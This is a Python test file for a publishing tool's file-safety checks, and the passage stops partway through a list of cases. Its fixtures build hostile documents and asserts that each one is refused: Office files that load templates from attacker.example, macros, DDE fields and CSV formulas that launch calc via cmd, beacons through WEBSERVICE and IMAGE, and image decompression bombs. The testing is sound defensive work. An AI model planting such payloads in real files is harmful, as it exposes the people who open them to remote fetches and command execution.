"""Fourth fresh-clone attacker (attack4/FINDINGS.md 1, 3, 4 and 10): what is
inside a file, read as the program that opens it reads it.

Office documents are read with an XML parser, so quoting, spaces, character
references and namespace prefixes no longer hide an external template; a
JPEG's fill bytes no longer hide its size; an image is decoded, so a damaged
one behind a valid header is refused by validate and not by the PDF step;
and editors' files in docs/ get the same checks, in validate and in the
output gate.
"""
from __future__ import annotations

import html
import io
import re
import struct
import zipfile
import zlib

import pytest

from conftest import build, make_project, run_cli, write_files
from test_validate import GOOD, tree_digest

A = "at-a-glance/case.md"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
XML = '<?xml version="1.0" encoding="UTF-8"?>'


def docx(settings_rels: str, attached: bool = True) -> bytes:
    """A minimal Word file whose settings attach the template `settings_rels` names (attack4-repro/mkdocx.py);
    not `attached`, its settings name no template."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", XML + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                   'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                   'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>')
        z.writestr("_rels/.rels", XML + f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="http://schemas.'
                   'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
                   "</Relationships>")
        z.writestr("word/document.xml", XML + '<w:document xmlns:w="http://schemas.openxmlformats.org/'
                   'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Checklist</w:t></w:r></w:p></w:body>'
                   "</w:document>")
        z.writestr("word/_rels/document.xml.rels", XML + f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
                   f'Type="{HYPERLINK}" Target="https://www.gov.scot/" TargetMode="External"/></Relationships>')
        z.writestr("word/settings.xml", XML + '<w:settings xmlns:w="http://schemas.openxmlformats.org/'
                   'wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                   'relationships">' + ('<w:attachedTemplate r:id="rId1"/>' if attached else "") + "</w:settings>")
        z.writestr("word/_rels/settings.xml.rels", settings_rels)
    return out.getvalue()


def renamed(document: bytes, old: str, new: str) -> bytes:
    """`document` with its part `old` named `new`."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(document)) as source, zipfile.ZipFile(out, "w") as z:
        for info in source.infolist():
            z.writestr(new if info.filename == old else info.filename, source.read(info))
    return out.getvalue()


def rels(attributes: str, quote: str = '"', prefix: str = "") -> str:
    element = f"{prefix}:Relationship" if prefix else "Relationship"
    root = f"{prefix}:Relationships" if prefix else "Relationships"
    xmlns = f"xmlns:{prefix}" if prefix else "xmlns"
    return XML + f"<{root} {xmlns}={quote}{RELS}{quote}><{element} {attributes}/></{root}>"


def template(target: str = "file://attacker.example/share/t.dotm", mode: str = 'TargetMode="External"') -> str:
    return f'Id="rId1" Type="{TEMPLATE}" Target="{target}" {mode}'


def odt(body: str, extra: dict[str, str] | None = None) -> bytes:
    """A minimal OpenDocument text (attack4-repro/mkodt.py)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        z.writestr("content.xml", XML + '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:'
                   'xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:'
                   'oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
                   'xmlns:l="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:'
                   'script:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" office:version="1.2">'
                   '<office:scripts/>' + body + "</office:document-content>")
        for name, text in (extra or {}).items():
            z.writestr(name, text)
    return out.getvalue()


def odt_image(href_attribute: str) -> str:
    return ("<office:body><office:text><text:p><draw:frame><draw:image " + href_attribute
            + ' xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p></office:text>'
              "</office:body>")


MACRO_EVENT = ('<office:event-listeners><script:event-listener script:language="ooo:script" '
               'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic'
               '&amp;location=document" xlink:type="simple"/></office:event-listeners>'
               "<office:body><office:text><text:p>x</text:p></office:text></office:body>")
LOADS = "from outside the document when it is opened"

# (file name, content, what the refusal says): the attacker's variants, each
# accepted before this change but the first.
OFFICE = [
    ("t-dq.docx", docx(rels(template())), f"loads `file://attacker.example/share/t.dotm` {LOADS}"),
    ("t-sq.docx", docx(rels(template().replace('"', "'"), quote="'")), LOADS),
    ("t-ws.docx", docx(rels(template(mode='TargetMode = "External"'))), LOADS),
    ("t-ent.docx", docx(rels(template(mode='TargetMode="&#69;xternal"'))), LOADS),
    ("t-prefix.docx", docx(rels(template(), prefix="pr")), LOADS),
    ("t-hyper.docx", docx(rels(template() + ' Note="/hyperlink"')), LOADS),
    ("t-https.docx", docx(rels(template("https://attacker.example/hyperlink/t.dotm"))),
     f"loads `https://attacker.example/hyperlink/t.dotm` {LOADS}"),
    ("t-ole.docx", docx(rels('Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                             'oleObject" Target="https://attacker.example/o.bin" TargetMode="External"')), LOADS),
    ("t-link.docx", docx(rels(f'Id="rId1" Type="{HYPERLINK}" Target="file://attacker.example/s" '
                              'TargetMode="External"')), "a document may link only to web"),
    # Tenth attacker: a template (or a picture) that takes a web address from
    # a relationship typed as a hyperlink; the program follows the id.
    ("t-typed.docx", docx(rels(f'Id="rId1" Type="{HYPERLINK}" Target="https://attacker.example/t.dotm" '
                               'TargetMode="External"')), "loads an outside address (relationship `rId1`) into "
                                                          "`attachedTemplate`"),
    # Twenty-first round: Office matches part names whatever their case, and
    # any TargetMode but `Internal` leaves the package.
    ("t-case.docx", renamed(docx(rels(f'Id="rId1" Type="{HYPERLINK}" Target="https://attacker.example/t.dotm" '
                                      'TargetMode="External"')), "word/_rels/settings.xml.rels",
                            "word/_rels/Settings.xml.rels"),
     "loads an outside address (relationship `rId1`) into `attachedTemplate`"),
    ("t-mode.docx", docx(rels(f'Id="rId1" Type="{HYPERLINK}" Target="https://attacker.example/t.dotm" '
                              'TargetMode="external"')), "loads an outside address (relationship `rId1`) into "
                                                         "`attachedTemplate`"),
    ("t-dtd.docx", docx(XML + '<!DOCTYPE r [<!ENTITY e "External">]>' + rels(template(mode='TargetMode="&e;"'))[
        len(XML):]), "declares a DTD"),
    ("o-unc.odt", odt(odt_image('xlink:href="&#92;&#92;attacker.example&#92;share&#92;a.png"')),
     "loads `\\\\attacker.example\\share\\a.png`"),
    ("o-prefix.odt", odt(odt_image('l:href="file://attacker.example/share/a.png"')),
     f"loads `file://attacker.example/share/a.png` {LOADS}"),
    ("o-entity.odt", odt(odt_image('xlink:href="file:&#47;&#47;attacker.example/share/a.png"')), LOADS),
    ("o-basic.odt", odt(MACRO_EVENT, {"Basic/Standard/Module1.xml": "<x/>", "Scripts/python/evil.py": "import os"}),
     "holds macros (`Basic/Standard/Module1.xml`)"),
    ("o-event.odt", odt(MACRO_EVENT), "holds macros (`office:event-listeners`)"),
    # Twenty-ninth round: a field that runs an installed macro when clicked.
    ("o-execute.odt", odt('<office:body><office:text><text:p><text:execute-macro text:name="vnd.sun.star.script:'
                          'Standard.Module1.Main?language=Basic&amp;location=application">Click</text:execute-macro>'
                          "</text:p></office:text></office:body>"), "holds macros (`text:execute-macro`)"),
]
# A Word file linking to the web, and an OpenDocument file with its own
# picture and a web link: published.
GOOD_OFFICE = {
    "fine.docx": docx(rels(f'Id="rId1" Type="{HYPERLINK}" Target="mailto:team@example.org" TargetMode="External"'),
                      attached=False),
    "fine.odt": odt('<office:body><office:text><text:p><text:a xlink:type="simple" xlink:href="https://www.gov.scot/">'
                    "web</text:a><draw:frame><draw:image xlink:href=\"Pictures/a.png\" xlink:type=\"simple\" "
                    'xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p></office:text></office:body>',
                    {"Pictures/a.png": "x"}),
}


def with_downloads(names: list[str], title: str = "A good briefing") -> str:
    items = "".join(f"\n  - file: files/{name}\n    label: File {number}" for number, name in enumerate(names))
    return GOOD.replace("status: current", "status: current\ndownloads:" + items).replace("A good briefing", title)


def problem_lines(out: str, rule: str) -> list[str]:
    return [line for line in out.splitlines() if f"[{rule}]" in line]


def refused_downloads(tmp_path, good: dict, bad: list) -> tuple:
    """A project whose good documents (in deeper-dives/) build, then the bad
    ones listed as downloads of one At a Glance, validated and built: (the
    project, its site's digest before, the line of the first download, and
    for each of validate and build: (command, output, its unsafe-file lines))."""
    project = make_project(tmp_path / "p", content={"deeper-dives/fine.md": with_downloads(list(good), "Fine"),
                                                    **{f"deeper-dives/files/{n}": c for n, c in good.items()}})
    result = build(project)
    assert result.returncode == 0, result.stderr[-3000:]
    before = tree_digest(project / "site")
    write_files(project, {A: with_downloads([name for name, _, _ in bad]),
                          **{f"at-a-glance/files/{name}": content for name, content, _ in bad}})
    first = GOOD.split("\n").index("status: current") + 3
    runs = []
    for command in (("validate",), ("build", "--site-dir", "site")):
        result = run_cli(project, *command)
        out = result.stdout + result.stderr
        assert result.returncode == 1 and "Traceback" not in out, (command, out[-3000:])
        runs.append((command, out, problem_lines(out, "unsafe-file")))
    return project, before, first, runs


def test_office_documents_are_read_as_their_programs_read_them(tmp_path):
    """Each variant is refused at its download's line, by validate and by the
    build, which leaves the site as it was; the good documents are not named,
    and publish once the bad ones are gone."""
    project, before, first, runs = refused_downloads(tmp_path, GOOD_OFFICE, OFFICE)
    for command, out, refused in runs:
        for number, (name, _, says) in enumerate(OFFICE):
            line = first + 2 * number
            assert any(l.startswith(f"{A}:{line}:") and f"`files/{name}`" in l and says in l for l in refused), \
                (command, name, says, refused)
        assert not any("fine" in line for line in refused), refused
        assert "hint: Export the file again" in out, out[-2000:]
    assert tree_digest(project / "site") == before
    (project / A).unlink()
    result = build(project)
    assert result.returncode == 0, result.stderr[-2000:]
    assert (project / "site" / "deeper-dives" / "files" / "fine.odt").exists()


# --- Images --------------------------------------------------------------------

def jpeg(width: int = 64, height: int = 64) -> bytes:
    from PIL import Image
    out = io.BytesIO()
    Image.new("RGB", (width, height), "teal").save(out, "JPEG")
    return out.getvalue()


def fill_byte(data: bytes, width: int, height: int) -> bytes:
    """A 0xFF fill byte before the frame header, which declares width x height (attack4-repro/jpeg_fill_byte.py)."""
    at = data.find(b"\xff\xc0")
    frame = bytearray(data[at:])
    frame[5:9] = struct.pack(">HH", height, width)
    return data[:at] + b"\xff" + bytes(frame)


def gif(frame_width: int, frame_height: int) -> bytes:
    """A 10 x 10 GIF, with a colour table of two, whose one frame is `frame_width` x `frame_height`
    with 2 bytes of LZW: truncated."""
    return (b"GIF89a" + struct.pack("<HHBBB", 10, 10, 0x80, 0, 0) + b"\x00" * 6 + b","
            + struct.pack("<HHHHB", 0, 0, frame_width, frame_height, 0) + b"\x08\x02\x4c\x01\x00;")


def progressive(scans: int) -> bytes:
    """A progressive JPEG of `scans` scans: one of its AC scans repeated, as
    the seventh attacker's scan bomb does (a 2 MB one took 83 s to decode)."""
    from PIL import Image
    out = io.BytesIO()
    Image.new("L", (64, 64), 128).save(out, "JPEG", progressive=True, quality=50)
    data = out.getvalue()
    for start in (m.start() for m in re.finditer(rb"\xff\xda", data)):
        header = int.from_bytes(data[start + 2:start + 4], "big")
        components = data[start + 4]
        first, approximation = data[start + 5 + 2 * components], data[start + 7 + 2 * components] >> 4
        if first > 0 and approximation == 0:  # an AC scan's first pass: repeating it only adds work
            end = re.compile(rb"\xff(?!\x00|[\xd0-\xd7])").search(data, start + 2 + header).start()
            return data[:end] + data[start:end] * (scans - data.count(b"\xff\xda")) + data[end:]
    raise AssertionError("no AC scan")


def frames_gif(frames: int) -> bytes:
    """A 1 x 1 GIF of `frames` frames of 16 bytes each (the eleventh attacker's
    1.3 million took 27 s to check)."""
    head = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    return head + (b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00") * frames + b";"


def frames_webp(frames: int) -> bytes:
    """An animated 1 x 1 WebP (libwebp walks to each frame from the first:
    80,000 took 21 s)."""
    from PIL import Image
    out = io.BytesIO()
    pictures = [Image.new("RGB", (1, 1), (255 * (n % 2), 0, 0)) for n in range(frames)]
    pictures[0].save(out, "WEBP", save_all=True, append_images=pictures[1:], lossless=True, duration=10)
    return out.getvalue()


def chunks_png(empty_chunks: int) -> bytes:
    """A 1 x 1 PNG with `empty_chunks` empty text chunks after its data."""
    import zlib

    def chunk(kind, data):
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", (1).to_bytes(4, "big") * 2 + b"\x08\x02\0\0\0")
            + chunk(b"IDAT", zlib.compress(b"\0\0\0\0")) + chunk(b"tEXt", b"") * empty_chunks + chunk(b"IEND", b""))


def test_animations_and_chunks_are_checked_up_to_their_limits_and_no_further():
    from resource_library.files import MAX_FRAMES, MAX_PNG_CHUNKS, image_problem
    assert image_problem(frames_gif(MAX_FRAMES), "gif") is None
    assert image_problem(frames_webp(MAX_FRAMES), "webp") is None
    assert image_problem(chunks_png(MAX_PNG_CHUNKS - 3), "png") is None  # with IHDR, IDAT and IEND
    assert "more than 100,000 chunks" in image_problem(chunks_png(MAX_PNG_CHUNKS - 2), "png")


IMAGES = [
    ("frames.gif", frames_gif(1_001), "is an animation of more than 1,000 frames"),
    ("frames.webp", frames_webp(1_001), "is an animation of more than 1,000 frames"),
    ("chunks.png", chunks_png(100_000), "has more than 100,000 chunks"),
    ("fill-60000.jpg", fill_byte(jpeg(), 60000, 60000), "declares 60,000 x 60,000 pixels"),
    ("fill-16000.jpg", fill_byte(jpeg(), 16000, 16000), "declares 16,000 x 16,000 pixels"),
    ("no-frame.jpg", jpeg().replace(b"\xff\xc0", b"\xff\xe5"), "declares no size (no frame header was found)"),
    ("truncated.gif", gif(100, 100), "cannot be shown: it is damaged or not a GIF image"),
    ("bomb.gif", gif(8000, 8000), "more pixels than the limit of 50 megapixels"),
    ("png-named.jpg", __import__("conftest").real_png(), "is not a JPEG image"),
    ("scans.jpg", progressive(101), "is a JPEG of 101 scans; the limit is 100"),
]


def test_images_are_decoded_within_the_pixel_budget(tmp_path):
    """A fill byte hid a 60,000 x 60,000 JPEG from the size check (10.6 GB
    and 33 s in the build); a JPEG with no frame header passed as 0 x 0; a
    truncated GIF passed validate and failed the PDF. Each is refused at its
    image's line by validate and by the build; a real JPEG with a fill byte
    is fine."""
    body = "".join(f"![Chart {n}](files/{name})\n\n" for n, (name, _, _) in enumerate(IMAGES))
    project = make_project(tmp_path / "p", content={
        A: GOOD + "\n" + body, **{f"at-a-glance/files/{name}": data for name, data, _ in IMAGES}})
    first = GOOD.count("\n") + 2
    for command in (("validate",), ("build", "--site-dir", "site")):
        result = run_cli(project, *command)
        out = result.stdout + result.stderr
        assert result.returncode == 1 and "Traceback" not in out, (command, out[-3000:])
        refused = problem_lines(out, "unsafe-file")
        for number, (name, _, says) in enumerate(IMAGES):
            assert any(l.startswith(f"{A}:{first + 2 * number}:") and f"`files/{name}`" in l and says in l
                       for l in refused), (command, name, refused)
        assert "[pdf]" not in out
        assert not (project / "site").exists()
    # At the limit of scans, the page and the PDF (whose decoder stops at 100) take it.
    write_files(project, {A: GOOD + "\n![A chart](files/fine.jpg)\n\n![A grey square](files/scans.jpg)\n",
                          "at-a-glance/files/fine.jpg": fill_byte(jpeg(), 64, 64),
                          "at-a-glance/files/scans.jpg": progressive(100)})
    result = build(project)
    assert result.returncode == 0, result.stderr[-2000:]
    assert (project / "site" / "at-a-glance" / "case" / "case.pdf").exists()


# --- Editors' files in docs/ -----------------------------------------------------

EDITOR_FILES = {
    "docs/about/template.docx": (docx(rels(template())), f"loads `file://attacker.example/share/t.dotm` {LOADS}"),
    "docs/about/notes.txt": (b"<!doctype html><html><body><script>alert(1)</script></body></html>",
                             "is not Text: it is a web page"),
    "docs/about/data.csv": (b"a,b\n\0\0binary", "is not CSV: it holds binary data"),
}
DOCS_CHECK_OFF = '''
"""Test only: validate's check of editors' files switched off, to show the gate holds alone."""
import resource_library.docs_pages as docs_pages
docs_pages.content_problem = lambda path: None
'''


def test_editors_files_get_the_checks_downloads_get(tmp_path):
    """A template-fetching Word file, an HTML page named notes.txt and a CSV
    of NUL bytes in docs/about/ were published: validate and the build now
    refuse each at the file, and the output gate does too by itself."""
    project = make_project(tmp_path / "p", content={"deeper-dives/valid.md": GOOD})
    assert build(project).returncode == 0
    before = tree_digest(project / "site")
    write_files(project, {path: data for path, (data, _) in EDITOR_FILES.items()})
    for command in (("validate",), ("build", "--site-dir", "site")):
        result = run_cli(project, *command)
        out = result.stdout + result.stderr
        assert result.returncode == 1 and "Traceback" not in out, (command, out[-3000:])
        for path, (_, says) in EDITOR_FILES.items():
            assert re.search(rf"^{re.escape(path)}:1:1 \[unsafe-file\] {re.escape(path)} .*{re.escape(says)}", out,
                             re.M), (command, path, out[-3000:])
    assert tree_digest(project / "site") == before
    # The gate alone: validate's check switched off by a hook loaded after the library's.
    write_files(project, {"hooks/switch_off.py": DOCS_CHECK_OFF})
    config = (project / "mkdocs.yml").read_text()
    (project / "mkdocs.yml").write_text(config.replace("  - hooks/library_hook.py",
                                                       "  - hooks/library_hook.py\n  - hooks/switch_off.py"))
    result = build(project)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr[-3000:]
    assert "[unsafe-file]" not in result.stderr
    for path, (_, says) in EDITOR_FILES.items():
        published = path.removeprefix("docs/")
        assert re.search(rf"^{re.escape(path)}:1:1 \[unsafe-output\] the published `{re.escape(published)}` "
                         rf".*{re.escape(says)}", result.stderr, re.M), (path, result.stderr[-3000:])
    assert tree_digest(project / "site") == before


# --- Formulas in CSV downloads (attack5/FINDINGS.md 2) -----------------------------

FORMULA_HINT = "hint: A spreadsheet runs a cell that starts with =, or with +, - or @ and reaches another program"
RUNS = "has a cell that a spreadsheet would run as a formula when the file is opened"
# (file name, content, what the refusal says): the attacker's file and the
# ways a cell can start a formula; each was published before this change.
CSV_FORMULAS = [
    ("attacker.csv", b'Area,Question,Link\nEvidence,"=HYPERLINK(""\\\\attacker.example\\share\\x"",""Open"")",x\n'
                     b"Finance,=cmd|' /C calc'!A0,y\n", 'row 2, column B: `=HYPERLINK("\\\\attacker.example'),
    # (`@SUM(A1)` sums; twenty-fourth round: a cell that starts with @ is read like one with + or -.)
    ("at.csv", b'a,b\n1,"@IMAGE(""https://attacker.example/p.png"")"\n', "row 2, column B: `@IMAGE("),
    ("minus.csv", b"a,b\n1,-2+cmd|' /C calc'!A0\n", "row 2, column B: `-2+cmd|"),
    ("plus.csv", b"a,b\n1,+WEBSERVICE(\"https://attacker.example/\")\n", "row 2, column B: `+WEBSERVICE("),
    ("after-tab.csv", b'a,b\n1,"\t=IMAGE(""https://attacker.example/p.png"")"\n', "row 2, column B: `=IMAGE("),
    ("semicolons.csv", b"a;b;c\n1;2;=cmd|' /C calc'!A0\n", "row 2, column C: `=cmd|"),
    ("tabs.csv", b"a\tb\n1\t =WEBSERVICE(A1)\n", "row 2, column B: `=WEBSERVICE(A1)`"),
    # Excel takes `sep=|` on the first line as the delimiter (eighth attacker).
    ("sep.csv", b'sep=|\nQuestion|Link\nAgree scope|=HYPERLINK("http://attacker.example/","Open")\n',
     'row 3, column B: `=HYPERLINK("http://attacker.example/"'),
    # Twenty-first round: not UTF-8, so Excel reads it as Windows-1252, where A0 is a space.
    ("ansi.csv", b"a,b\n1,\xa0=1+1\n", "row 2, column B: `=1+1`"),
]
# Numbers, phone numbers and a neutralised formula: data, published.
GOOD_CSV = (b"Name,Phone,Change,Note\nPlanning team,+44 131 623 4300,-5,'=not a formula\n"
            b"Finance,0131 623 4300,-(1,200.50),-12%\nOther,-,+3.5,text with = and - inside\n"
            # Twenty-second round: money, phone numbers with dashes, notes and ranges are data.
            b'Costs,+1-555-123-4567,"-\xc2\xa31,200",- see note\nMore,+/-2,-2 to +3,-N/A\n'
            # Twenty-fourth round: notes with ! [ ] and brackets are data too.
            b"Notes,- urgent!,-ve balance [draft],- Q1(est.) figures\nTeam,@team on Teams,- Scotland (North) region,x\n")


def test_csv_cells_a_spreadsheet_would_run_are_refused(tmp_path):
    """Each file is refused at its download's line (a formula linked from the
    body at the link's), by validate and by the build, with the fix; the
    site stays as it was; a CSV of numbers and phone numbers publishes."""
    project = make_project(tmp_path / "p", content={"deeper-dives/fine.md": with_downloads(["fine.csv"], "Fine"),
                                                    "deeper-dives/files/fine.csv": GOOD_CSV})
    assert build(project).returncode == 0
    before = tree_digest(project / "site")
    linked = "\n[The checklist](files/linked.csv)\n"
    write_files(project, {A: with_downloads([name for name, _, _ in CSV_FORMULAS]) + linked,
                          "at-a-glance/files/linked.csv": b"a\n=1+1\n",
                          **{f"at-a-glance/files/{name}": content for name, content, _ in CSV_FORMULAS}})
    first = GOOD.split("\n").index("status: current") + 3
    link_line = with_downloads([name for name, _, _ in CSV_FORMULAS]).count("\n") + 2
    for command in (("validate",), ("build", "--site-dir", "site")):
        result = run_cli(project, *command)
        out = result.stdout + result.stderr
        assert result.returncode == 1 and "Traceback" not in out, (command, out[-3000:])
        refused = problem_lines(out, "unsafe-file")
        for number, (name, _, says) in enumerate(CSV_FORMULAS):
            line = first + 2 * number
            assert any(l.startswith(f"{A}:{line}:") and f"`files/{name}` {RUNS}" in l and says in l
                       for l in refused), (command, name, says, refused)
        assert any(l.startswith(f"{A}:{link_line}:17 [unsafe-file] `files/linked.csv` {RUNS} (row 2, column A: "
                                "`=1+1`)") for l in refused), (command, refused)
        assert len(refused) == len(CSV_FORMULAS) + 1, refused
        assert out.count(FORMULA_HINT) == len(refused) and "Put a ' before it, or remove the formula" in out
    assert tree_digest(project / "site") == before
    (project / A).unlink()
    assert build(project).returncode == 0
    assert (project / "site" / "deeper-dives" / "files" / "fine.csv").read_bytes() == GOOD_CSV


# --- What Office documents fetch or run without a relationship (attack5/FINDINGS.md 1)

W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
X_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def package(parts: dict[str, str]) -> bytes:
    """An OOXML zip of `parts` (name: XML), with its content types."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", XML + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                   'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                   'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>')
        for name, text in parts.items():
            z.writestr(name, XML + text)
    return out.getvalue()


def word(part: str, body: str) -> bytes:
    root = "w:document" if part == "word/document.xml" else "w:hdr"
    return package({part: f"<{root} {W_NS}><w:body>{body}</w:body></{root}>"})


def field(*runs: str) -> str:
    """A complex field whose instruction is written over `runs`, as Word splits it."""
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            + "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>' for run in runs)
            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
              '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def simple(instruction: str) -> str:
    return f"<w:p><w:fldSimple w:instr='{instruction}'><w:r><w:t>y</w:t></w:r></w:fldSimple></w:p>"


def sheet(formula: str, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    return package({part: f'<worksheet {X_NS}><sheetData><row r="2"><c r="B2" t="str"><f>{formula}</f><v>x</v>'
                          "</c></row></sheetData></worksheet>"})


def slide(action: str) -> bytes:
    return package({"ppt/slides/slide1.xml": '<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/'
                    'main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.'
                    'openxmlformats.org/officeDocument/2006/relationships"><p:cSld><p:spTree><p:sp><p:nvSpPr>'
                    f'<p:cNvPr id="2" name="Button"><a:hlinkClick r:id="rId2" action="{action}"/></p:cNvPr>'
                    "</p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>"})


def relationships(*items: str) -> str:
    return ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(f"<Relationship {item}/>" for item in items) + "</Relationships>")


def with_part(document: bytes, name: str, data: bytes) -> bytes:
    """`document` with one more part, as it is (a picture, an object, a document)."""
    out = io.BytesIO(document)
    with zipfile.ZipFile(out, "a") as z:
        z.writestr(name, data)
    return out.getvalue()


def cell(formula: str) -> str:
    """An OpenDocument spreadsheet's body with one cell of `formula`."""
    return ('<office:body><office:spreadsheet><table:table table:name="S"><table:table-row><table:table-cell '
            f'table:formula="{html.escape(formula)}"/></table:table-row></table:table></office:spreadsheet></office:body>')


FETCHES = "that fetches a file when the document opens"
DDE_LINK = '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>'
# (file name, content, what the refusal says): each published before this change.
OFFICE_ACTIVE = [
    ("picture.docx", word("word/document.xml", field(' INCLUDEPICTURE "\\\\\\\\attacker.example\\\\share\\\\a.png" \\d ')),
     f"has a field code INCLUDEPICTURE {FETCHES} (in `word/document.xml`)"),
    ("split.docx", word("word/document.xml", field(" INCLUDE", 'PICTURE "https://attacker.example/a.png" ')),
     f"has a field code INCLUDEPICTURE {FETCHES}"),
    ("text.docx", word("word/header1.xml", simple(' INCLUDETEXT "https://attacker.example/track.docx" ')),
     f"has a field code INCLUDETEXT {FETCHES} (in `word/header1.xml`)"),
    ("ddeauto.docx", word("word/footnotes.xml", simple(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')),
     "has a field code DDEAUTO that starts another program and reads from it (DDE) when the document opens "
     "(in `word/footnotes.xml`)"),
    ("link.docx", word("word/footer2.xml", field(' LINK Excel.Sheet.8 "\\\\\\\\attacker.example\\\\s\\\\x.xls" "" ')),
     "has a field code LINK that opens another program's file"),
    ("nested.docx", word("word/document.xml", '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                         'IMPORT "</w:instrText></w:r>' + field(" PAGE ")[5:-6] + '<w:r><w:instrText>.png"</w:instrText>'
                         '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), f"has a field code IMPORT {FETCHES}"),
    # Twenty-first round: no name where Word expects one; a field name anywhere in it counts.
    ("quoted.docx", word("word/document.xml", simple(' "INCLUDEPICTURE" "https://attacker.example/a.png" ')),
     f"has a field code INCLUDEPICTURE {FETCHES}"),
    ("hyperlink.docx", word("word/document.xml", simple(' HYPERLINK "file://attacker.example/share/x" ')),
     "has a field code HYPERLINK to `file://attacker.example/share/x` (in `word/document.xml`); a document may link "
     "only to web"),
    ("dde.xlsx", package({"xl/externalLinks/externalLink1.xml": f"<externalLink {X_NS}>{DDE_LINK}</externalLink>"}),
     "has a link to another workbook, which is read when the workbook opens (`externalLink` in "
     "`xl/externalLinks/externalLink1.xml`)"),
    ("dde-elsewhere.xlsx", package({"xl/stuff/x.xml": f"<root {X_NS}>{DDE_LINK}</root>"}),
     "has a DDE link, which starts another program when the workbook opens (`ddeLink` in `xl/stuff/x.xml`)"),
    ("ole.xlsx", package({"xl/x.xml": f'<root {X_NS}><oleLink r:id="rId1" progId="Package" xmlns:r="r"/></root>'}),
     "has an OLE link"),
    ("webservice.xlsx", sheet('_xlfn.WEBSERVICE("https://attacker.example/beacon")'),
     'has a formula that uses WEBSERVICE, which reaches another computer (cell B2 of `xl/worksheets/sheet1.xml`: '
     '`_xlfn.WEBSERVICE("https://attacker.example/beacon")`)'),
    ("image.xlsx", sheet('IMAGE("https://attacker.example/p.png")'), "uses IMAGE, which fetches a picture"),
    ("call.xlsx", sheet('CALL("kernel32","WinExec","JCJ","calc",0)'), "uses CALL, which calls a program library"),
    ("pipe.xlsx", sheet("cmd|' /C calc'!A0"), "starts another program and reads from it (a DDE reference"),
    ("hyper.xlsx", sheet('HYPERLINK("file://attacker.example/share/x","Open the checklist")'),
     "links to `file://attacker.example/share/x` (HYPERLINK)"),
    ("named.xlsx", package({"xl/workbook.xml": f'<workbook {X_NS}><definedNames><definedName name="go">'
                                               'RTD("evil.server",,"x")</definedName></definedNames></workbook>'}),
     "uses RTD, which starts a real-time data server (`xl/workbook.xml`"),
    ("program.pptx", slide("ppaction://program"), "has an action `ppaction://program` that runs a program"),
    ("path.xlsx", sheet("'\\\\attacker.example\\s\\[book.xlsx]Sheet1'!A1"),
     "reads a cell of another file when it is opened (an external reference)"),
    # Seventh attacker: parts found by content type whatever their names, and
    # more of Word's ways to fetch or run.
    ("dat.docx", word("word/document.dat", field(' INCLUDEPICTURE "\\\\\\\\attacker.example\\\\s\\\\a.png" ')),
     f"has a field code INCLUDEPICTURE {FETCHES} (in `word/document.dat`)"),
    ("dat.xlsx", sheet('WEBSERVICE("https://attacker.example/b")', "xl/worksheets/sheet1.dat"),
     "uses WEBSERVICE, which reaches another computer (cell B2 of `xl/worksheets/sheet1.dat`"),
